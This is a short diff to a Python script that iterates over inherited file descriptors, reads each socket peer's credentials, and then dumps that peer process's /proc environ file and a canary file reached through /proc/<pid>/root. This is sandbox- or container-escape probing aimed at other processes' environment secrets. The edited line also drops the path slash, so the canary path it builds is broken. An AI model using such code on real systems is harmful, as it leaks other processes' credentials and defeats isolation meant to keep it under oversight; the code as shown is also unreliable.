@@ -14,7 +14,7 @@ for number in range(3, 64):
         line = socket.socket(fileno=os.dup(number))
         pid, uid, gid = struct.unpack("3i", line.getsockopt(socket.SOL_SOCKET, 17, 12))
         print("peer", pid, uid, gid, line.getsockname(), line.getpeername())
-        for path in (f"/proc/{pid}/environ", f"/proc/{pid}/root/CANARY_FILE"):
+        for path in (f"/proc/{pid}/environ", f"/proc/{pid}/root" + "CANARY_FILE"):
             try:
                 with open(path, "rb") as file:
                     print(file.read(3000))
